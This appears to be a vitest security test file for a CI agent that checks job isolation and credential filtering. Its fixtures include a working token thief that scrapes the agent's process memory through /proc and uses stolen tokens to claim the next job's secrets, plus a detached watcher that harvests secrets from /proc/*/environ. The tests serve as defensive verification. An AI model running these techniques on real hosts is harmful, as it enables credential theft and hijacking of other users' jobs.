import { spawnSync } from 'node:child_process';
import { chmod, chown, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { killAll, runCli, spawnCli, startTestServer, type TestServer } from '../test-support/harness.js';

/**
 * Hostile jobs on a host agent: a job that leaves a watcher behind in its own session, hunting
 * the next job's secrets in /proc/*\/environ, and a thief that reads the agent's access token from
 * /proc/<agent>/mem to claim the next job itself.
 */

/** Dedicated to this test: every process of the job user is killed after each job. */
const JOB_USER = 'slipway-jobtest';
const NOBODY = { uid: 65534, gid: 65534 };
const SECRET = 'hunter2-next-jobs-secret';

/** Reads the agent's memory for access tokens; with `claim`, uses them to take the next job. */
const THIEF = String.raw`
const fs = require('node:fs');
const [agentPid, loot, mode] = process.argv.slice(2);
const log = (m) => fs.appendFileSync(loot + '/thief.log', m + '\n');
fs.writeFileSync(loot + '/thief.pid', String(process.pid));
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
function scan() {
  const tokens = new Set();
  const maps = fs.readFileSync('/proc/' + agentPid + '/maps', 'utf8');
  const fd = fs.openSync('/proc/' + agentPid + '/mem', 'r');
  for (const line of maps.split('\n')) {
    const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (!m) continue;
    const end = parseInt(m[2], 16);
    for (let at = parseInt(m[1], 16); at < end; at += 1 << 22) {
      const buf = Buffer.alloc(Math.min(1 << 22, end - at));
      try { fs.readSync(fd, buf, 0, buf.length, at); } catch { continue; }
      for (const t of buf.toString('latin1').matchAll(/slw_agt_[A-Za-z0-9_-]{43}/g)) tokens.add(t[0]);
    }
  }
  fs.closeSync(fd);
  return [...tokens];
}
async function api(path, token, body) {
  const res = await fetch(process.env.SLIPWAY_API_URL + '/api/v1/' + path, {
    method: 'POST',
    headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  return { status: res.status, body: res.status === 200 ? await res.json() : null };
}
(async () => {
  for (;;) {
    let tokens;
    try {
      tokens = scan();
      log('scan: ' + tokens.length + ' agent tokens');
    } catch (e) {
      log('scan failed: ' + e.code);
    }
    for (const token of mode === 'claim' ? tokens ?? [] : []) {
      try {
        const s = await api('agents/session', token, { capabilities: {}, version: '0' });
        if (s.status !== 200) {
          log('session: ' + s.status);
          continue;
        }
        const offer = await api('agents/poll', token, { sessionId: s.body.sessionId });
        if (offer.status !== 200) {
          log('poll: ' + offer.status);
          continue;
        }
        const job = await api('jobs/' + offer.body.jobId + '/claim', token, { sessionId: s.body.sessionId });
        log('claim: ' + job.status);
        if (job.status === 200) {
          log('claimed ' + offer.body.jobId);
          fs.appendFileSync(loot + '/captured', JSON.stringify(job.body.secrets) + '\n');
        }
      } catch (e) {
        log('api: ' + e.message);
      }
    }
    await sleep(1000);
  }
})();
`;

/** Job 1: starts the watcher and the thief in sessions of their own, then shows the thief's first findings. */
function hostileJob(loot: string, mode: 'claim' | 'scan'): string {
  const watcher = `echo $$ > ${loot}/watcher.pid; while :; do cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep "^MYSECRET=" >> ${loot}/captured; sleep 0.2; done`;
  return [
    'steps:',
    '- bash: |',
    `    cp thief.cjs ${loot}/`,
    `    setsid sh -c '${watcher}' </dev/null >/dev/null 2>&1 &`,
    `    setsid node ${loot}/thief.cjs $PPID ${loot} ${mode} </dev/null >/dev/null 2>&1 &`,
    `    for i in $(seq 300); do [ -s ${loot}/thief.log ] && [ -s ${loot}/watcher.pid ] && break; sleep 0.1; done`,
    `    echo "thief: $(head -n 1 ${loot}/thief.log)"`,
    '',
  ].join('\n');
}

const NEXT_JOB = `steps:\n- bash: sleep 3; echo next job done\n  env: { MYSECRET: $(MYSECRET) }\n`;

/** Every folder a test makes, removed after the tests whether they passed or not. */
const made: string[] = [];
async function tempDir(prefix: string, mode = 0o700): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), prefix));
  made.push(dir);
  await chmod(dir, mode);
  return dir;
}

async function workspace(yaml: string): Promise<string> {
  const dir = await tempDir('slipway-ws-');
  await writeFile(join(dir, 'azure-pipelines.yml'), yaml);
  await writeFile(join(dir, 'thief.cjs'), THIEF);
  return dir;
}

/** A folder every user may write to, for what the hostile job finds. */
async function lootDir(): Promise<string> {
  const dir = await tempDir('slipway-loot-', 0o777);
  return dir;
}

/** Whether a process runs (a zombie does not: it is only waiting to be reaped). */
function running(pid: number): boolean {
  try {
    const stat = spawnSync('cat', [`/proc/${pid}/stat`], { encoding: 'utf8' }).stdout;
    return stat !== '' && stat.slice(stat.lastIndexOf(')') + 2, stat.lastIndexOf(')') + 3) !== 'Z';
  } catch {
    return false;
  }
}

async function pidIn(file: string): Promise<number> {
  return Number((await readFile(file, 'utf8')).trim());
}

async function readOr(file: string): Promise<string> {
  return readFile(file, 'utf8').catch(() => '');
}

let ts: TestServer;
let createdUser = false;
const loots: string[] = [];
beforeAll(async () => {
  ts = await startTestServer();
  if (spawnSync('id', ['-u', JOB_USER]).status !== 0) {
    const added = spawnSync('useradd', ['--system', '-M', '-d', '/nonexistent', '-s', '/bin/sh', JOB_USER]);
    if (added.status !== 0) throw new Error(`useradd ${JOB_USER}: ${added.stderr}`);
    createdUser = true;
  }
});
afterEach(killAll);
afterAll(async () => {
  // Whatever survived a failing run of these tests.
  for (const loot of loots) {
    for (const f of ['watcher.pid', 'thief.pid']) {
      const pid = await pidIn(join(loot, f)).catch(() => 0);
      if (pid > 0) spawnSync('kill', ['-9', String(pid)]);
    }
  }
  for (const dir of made) await rm(dir, { recursive: true, force: true });
  await ts.stop();
  if (createdUser) spawnSync('userdel', [JOB_USER]);
});

describe('a host agent with --job-user', () => {
  it('kills the setsid watcher and the thief after the job: the next job keeps its secret and its agent', {
    timeout: 240_000,
  }, async () => {
    const loot = await lootDir();
    loots.push(loot);
    const work = await tempDir('slipway-work-', 0o755);
    const agent = spawnCli(['agent', 'run', '--job-user', JOB_USER], {
      AZP_URL: ts.url,
      AZP_TOKEN: await ts.pat(),
      AZP_AGENT_NAME: 'isolated-1',
      AZP_WORK: join(work, 'w'),
      SLIPWAY_LOG_LEVEL: 'info',
    });
    await agent.waitFor(/"msg":"registered"/);
    expect(agent.output()).toContain('steps run as the job user');

    const first = await runCli(ts, ['--dir', await workspace(hostileJob(loot, 'claim'))]);
    expect(first.output).toContain('thief: scan failed: EACCES');
    expect(first.code).toBe(0);
    const watcher = await pidIn(join(loot, 'watcher.pid'));
    const thief = await pidIn(join(loot, 'thief.pid'));
    expect(running(watcher)).toBe(false);
    expect(running(thief)).toBe(false);

    const next = await runCli(ts, ['--dir', await workspace(NEXT_JOB), '--secret', `MYSECRET=${SECRET}`]);
    expect(next.output).toContain('next job done');
    expect(next.code).toBe(0);
    expect(await readOr(join(loot, 'captured'))).not.toContain(SECRET);
    expect(await readOr(join(loot, 'thief.log'))).not.toContain('claimed');
  });

  it('runs a whole job as the job user: workspace, its own HOME, publish and download', {
    timeout: 120_000,
  }, async () => {
    const work = await tempDir('slipway-work-', 0o755);
    const agent = spawnCli(['agent', 'run', '--once', '--job-user', JOB_USER], {
      AZP_URL: ts.url,
      AZP_TOKEN: await ts.pat(),
      AZP_AGENT_NAME: 'isolated-2',
      AZP_WORK: join(work, 'w'),
      SLIPWAY_LOG_LEVEL: 'info',
    });
    await agent.waitFor(/"msg":"registered"/);
    const yaml = [
      'jobs:',
      '- job: build',
      '  steps:',
      '  - bash: |',
      '      echo "as $(id -un) home $HOME"',
      '      echo more >> thief.cjs && mkdir out && echo built > out/app.txt',
      '  - publish: out',
      '    artifact: app',
      '  - download: current',
      '    artifact: app',
      '  - bash: |',
      '      set -e',
      '      echo changed >> "$(Pipeline.Workspace)/app/app.txt"',
      '      touch "$(Pipeline.Workspace)/app/new-file"',
      '      echo "downloaded: $(head -n 1 "$(Pipeline.Workspace)/app/app.txt")"',
      '',
    ].join('\n');
    const run = await runCli(ts, ['--dir', await workspace(yaml)]);
    expect(run.output).toContain(`as ${JOB_USER} home /nonexistent`);
    expect(run.output).toContain('downloaded: built');
    expect(run.code).toBe(0);
    expect(await agent.exited).toBe(0);
  });

  it('refuses a job user that is root or unknown, a work folder it cannot reach, a token file it can read (exit 2)', async () => {
    const start = (user: string, work: string) =>
      spawnCli(['agent', 'run', '--job-user', user], { AZP_URL: ts.url, AZP_TOKEN: 'x', AZP_WORK: work });
    const root = start('root', join(ts.dir, 'w1'));
    expect(await root.exited).toBe(2);
    expect(root.output()).toMatch(/--job-user root: steps must run as an unprivileged user/);
    const unknown = start('no-such-user-here', join(ts.dir, 'w2'));
    expect(await unknown.exited).toBe(2);
    expect(unknown.output()).toMatch(/no such user/);
    // The test server's folder is made by mkdtemp: mode 0700, so the job user cannot enter it.
    const hidden = start(JOB_USER, join(ts.dir, 'w3'));
    expect(await hidden.exited).toBe(2);
    expect(hidden.output()).toMatch(/--work .*w3: .* does not let slipway-jobtest in/);
    // A token file the job user could read would hand every job the registration PAT.
    const open = await tempDir('slipway-open-', 0o755);
    await writeFile(join(open, 'agent.token'), await ts.pat(), { mode: 0o644 });
    const readable = spawnCli(['agent', 'run', '--job-user', JOB_USER], {
      AZP_URL: ts.url,
      AZP_TOKEN_FILE: join(open, 'agent.token'),
      AZP_WORK: join(open, 'work'),
    });
    expect(await readable.exited).toBe(2);
    expect(readable.output()).toMatch(
      /--token-file .*agent.token \(mode 644\) is readable by slipway-jobtest/,
    );
  });
});

describe('a host agent under its own user, without --job-user', () => {
  it('still kills the setsid watcher after the job, and warns that it does not isolate jobs', {
    timeout: 180_000,
  }, async () => {
    const loot = await lootDir();
    loots.push(loot);
    const home = await tempDir('slipway-own-', 0o755);
    const work = join(home, 'work');
    await mkdir(work);
    await chown(work, NOBODY.uid, NOBODY.gid);
    const agent = spawnCli(
      ['agent', 'run', '--url', ts.url, '--name', 'own-user-1', '--work', work],
      // In the environment, not on the command line, which every process on the host can read
      // (the credential probe running beside this test would find it there).
      { HOME: home, SLIPWAY_LOG_LEVEL: 'info', AZP_TOKEN: await ts.pat() },
      home,
      NOBODY,
    );
    await agent.waitFor(/"msg":"registered"/);
    expect(agent.output()).toMatch(/steps run as the agent's own user.*not isolated; use --job-user/);

    const first = await runCli(ts, ['--dir', await workspace(hostileJob(loot, 'scan'))]);
    expect(first.code).toBe(0);
    // What the README says: the same user reads the agent's memory, access token included.
    expect(first.output).toMatch(/thief: scan: [1-9]\d* agent tokens/);
    expect(running(await pidIn(join(loot, 'watcher.pid')))).toBe(false);
    expect(running(await pidIn(join(loot, 'thief.pid')))).toBe(false);

    const next = await runCli(ts, ['--dir', await workspace(NEXT_JOB), '--secret', `MYSECRET=${SECRET}`]);
    expect(next.code).toBe(0);
    expect(await readOr(join(loot, 'captured'))).not.toContain(SECRET);
  });
});

describe("the agent's environment", () => {
  it('refuses to start with the admin token or the CLI token in it, naming the variable (exit 2)', async () => {
    const cli = spawnCli(['agent', 'run'], {
      AZP_URL: ts.url,
      AZP_TOKEN: await ts.pat(),
      SLIPWAY_TOKEN: ts.adminToken,
    });
    expect(await cli.exited).toBe(2);
    expect(cli.output()).toMatch(/SLIPWAY_TOKEN holds the admin token.*env -u SLIPWAY_TOKEN/);
    const other = spawnCli(['agent', 'run'], {
      AZP_URL: ts.url,
      AZP_TOKEN: await ts.pat(),
      DEPLOY_CREDENTIAL: ts.adminToken,
    });
    expect(await other.exited).toBe(2);
    expect(other.output()).toMatch(/DEPLOY_CREDENTIAL holds the admin token/);
  });

  it('keeps every credential-like variable from the steps, by name and by value', {
    timeout: 120_000,
  }, async () => {
    const pat = await ts.pat();
    const agent = spawnCli(['agent', 'run', '--once'], {
      AZP_URL: ts.url,
      AZP_TOKEN: pat,
      AZP_AGENT_NAME: 'env-1',
      AZP_WORK: join(ts.dir, 'work-env'),
      AZP_TOKEN_X: 'value-of-azp-token-x',
      SLIPWAY_REGISTRY_TOKEN: 'value-of-registry-token',
      SLIPWAY_DEPLOY_KEY: 'value-of-deploy-key',
      PLAIN_LOOKING: await ts.pat(),
      KEEP_ME: 'visible-to-steps',
      SLIPWAY_LOG_LEVEL: 'info',
    });
    await agent.waitFor(/"msg":"registered"/);
    const run = await runCli(ts, [
      '--dir',
      await workspace('steps:\n- bash: |\n    env | sort | sed "s/^/env: /"\n'),
    ]);
    expect(run.code).toBe(0);
    expect(run.output).toContain('env: KEEP_ME=visible-to-steps');
    for (const name of [
      'AZP_TOKEN',
      'AZP_TOKEN_X',
      'SLIPWAY_REGISTRY_TOKEN',
      'SLIPWAY_DEPLOY_KEY',
      'PLAIN_LOOKING',
    ])
      expect(run.output).not.toContain(`env: ${name}=`);
    expect(run.output).not.toMatch(/slw_(pat|adm)_/);
    expect(await agent.exited).toBe(0);
  });
});
